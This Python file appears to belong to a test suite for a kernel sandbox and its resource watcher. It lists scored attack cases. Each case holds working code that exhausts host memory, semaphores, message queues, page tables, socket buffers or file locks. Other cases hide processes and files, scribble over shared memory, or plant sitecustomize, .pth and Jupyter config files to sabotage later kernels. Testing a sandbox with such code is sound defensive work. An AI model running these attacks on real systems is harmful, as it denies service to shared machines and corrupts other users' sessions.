"""Hold memory or disk where it counts as nobody's, and hide processes from whoever counts."""

from tiny_course import DOUBLE, TOTAL

from attacks import Attack

# The kernel refuses some of these, and the watcher stops the others: the points are the same.
EITHER = {"double": DOUBLE, "deserves": (2, 0), "status": ""}

FORGETFUL = """
import ctypes, mmap, os, socket, time
libc = ctypes.CDLL(None, use_errno=True)
held = []
"""

ATTACKS = [
    Attack("undumpable", "makes itself undumpable, so that nobody may look into its memory",
           total=FORGETFUL + """
assert libc.prctl(4, 0, 0, 0, 0) == 0
for _ in range(12):
    if not os.fork():
        x = b"1" * 100_000_000
        time.sleep(100)
time.sleep(100)
""", **EITHER),
    Attack("undumpable_files", "hides the files that it holds open", total=FORGETFUL + """
assert libc.prctl(4, 0, 0, 0, 0) == 0
while True:
    held.append(open("f", "wb"))
    os.unlink("f")
    held[-1].write(bytes(5_000_000))
""", **EITHER),
    Attack("unreadable_program", "runs a program that it may run and not read",
           total=FORGETFUL + """
import shutil, subprocess
with open("/usr/bin/dd", "rb") as program, open(os.open("dd", 65, 0o311), "wb") as copy:
    shutil.copyfileobj(program, copy)
for _ in range(12):
    subprocess.Popen(["./dd", "if=/dev/urandom", "of=/dev/null", "bs=100M"])
time.sleep(100)
""", **EITHER),
    Attack("semaphores", "makes System V semaphores until the machine is full",
           total=FORGETFUL + """
while libc.semget(0, 32000, 0o1600) >= 0: pass
""", double=DOUBLE, deserves=(2, 0)),
    Attack("message_queues", "fills message queues, of both kinds", total=FORGETFUL + """
text = ctypes.create_string_buffer(b"\\1" * 8192)
while (queue := libc.msgget(0, 0o1600)) >= 0:
    while libc.msgsnd(queue, text, 8000, 0o4000) == 0: pass
real = ctypes.CDLL("librt.so.1")
while real.mq_open(b"/x%d" % len(held), 0o102, 0o600, None) >= 0: held.append(0)
""", double=DOUBLE, deserves=(2, 0)),
    Attack("page_tables", "has the kernel keep tables of pages that are all the same one",
           total=FORGETFUL + """
while True:
    space = mmap.mmap(-1, 2**38, mmap.MAP_PRIVATE | 0x4000, mmap.PROT_READ)
    space.madvise(15)
    for at in range(0, 2**38, 2**21): space[at]
    held.append(space)
""", **EITHER),
    Attack("socket_buffers", "leaves messages to itself in socket after socket",
           total=FORGETFUL + """
for _ in range(20):
    if not os.fork():
        try:
            while True:
                held.append(socket.socketpair())
                for end in held[-1]:
                    end.setblocking(False)
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
                    try:
                        while True: end.send(bytes(65536))
                    except BlockingIOError: pass
        except OSError: time.sleep(100)
time.sleep(100)
""", **EITHER),
    Attack("pieces_of_shared_memory", "gives back all but a page of it, and none of the memory",
           total=FORGETFUL + """
libc.mmap.restype = ctypes.c_void_p
for size in [30_000_000] * 100:
    at = libc.mmap(None, ctypes.c_size_t(size), 3, 0x21, -1, ctypes.c_long(0))
    ctypes.memset(ctypes.c_void_p(at), 1, size)
    libc.munmap(ctypes.c_void_p(at + 4096), ctypes.c_size_t(size - 4096))
time.sleep(100)
""", **EITHER),
    Attack("shared_zeros", "maps the device of zeros, whose pages have no owner",
           total=FORGETFUL + """
while True:
    with open("/dev/zero", "rb") as zeros:
        held.append(mmap.mmap(zeros.fileno(), 10**8, mmap.MAP_SHARED, mmap.PROT_READ))
    sum(held[-1][at] for at in range(0, 10**8, 4096))
    held[-1].madvise(mmap.MADV_DONTNEED)
""", double=DOUBLE, deserves=(2, 0)),
    Attack("file_locks", "locks every second byte of a file", total=FORGETFUL + """
import fcntl
with open("f", "w") as file:
    for at in range(10**9, 0, -2): fcntl.lockf(file, fcntl.LOCK_EX, 1, at)
""", double=DOUBLE, deserves=(2, 0), status="partly graded", reason="locks"),
    Attack("full_disk_mapped", "keeps deleted files by a page of each", total=FORGETFUL + """
while True:
    with open("f", "w+b") as file:
        os.unlink("f")
        file.write(bytes(5_000_000)); file.flush()
        held.append(mmap.mmap(file.fileno(), 4096))
""", double=DOUBLE, deserves=(2, 0), status="partly graded", reason="of files"),
    Attack("full_disk_on_its_way", "keeps deleted files in messages that nobody receives",
           total=FORGETFUL + """
ours, theirs = socket.socketpair()
for _ in range(100):
    with open("f", "w+b") as file:
        os.unlink("f")
        file.write(bytes(5_000_000)); file.flush()
        socket.send_fds(ours, [b"x"], [file.fileno()])
time.sleep(100)
""", **EITHER),
    Attack("orphans", "has memory held by processes whose parents have gone",
           total=FORGETFUL + """
for _ in range(12):
    if not os.fork():
        if os.fork(): os._exit(0)
        os.setsid()
        x = b"1" * 100_000_000
        time.sleep(100)
    os.wait()
time.sleep(100)
""", **EITHER),
    Attack("shared_pages_of_the_zygote", "scribbles over all memory that it shares with others",
           first=FORGETFUL + """
shared = [line.split() for line in open("/proc/self/maps") if line.split()[1][3] == "s"]
print(shared)
for span, rights, *_ in shared:
    start, end = (int(x, 16) for x in span.split("-"))
    libc.mprotect(ctypes.c_void_p(start), ctypes.c_size_t(end - start), 3)
    if rights[1] == "w": ctypes.memset(ctypes.c_void_p(start), 0x55, end - start)
""", total=TOTAL, deserves=(0, 3)),
    Attack("settings_of_the_next_one", "leaves settings where the next kernel would look for them",
           first=FORGETFUL + """
text = "raise SystemExit('left by another')"
for folder in ("~", "~/.ipython/profile_default/startup", "~/.jupyter", "~/.config/matplotlib",
               "~/.local/lib/python3.11/site-packages", "~/.keras", "~/.cache", "..", "../..", "/",
               "/tmp", "/etc/ipython", "/usr/local/etc/jupyter", "/etc/jupyter"):
    for name in ("sitecustomize.py", "usercustomize.py", "x.pth", "00.py", "ipython_config.py",
                 "ipython_kernel_config.py", "jupyter_config.py", "matplotlibrc", "keras.json"):
        path = os.path.join(os.path.expanduser(folder), name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write(text)
        except OSError: pass
""", total=TOTAL, deserves=(0, 3)),
]  # fmt: skip
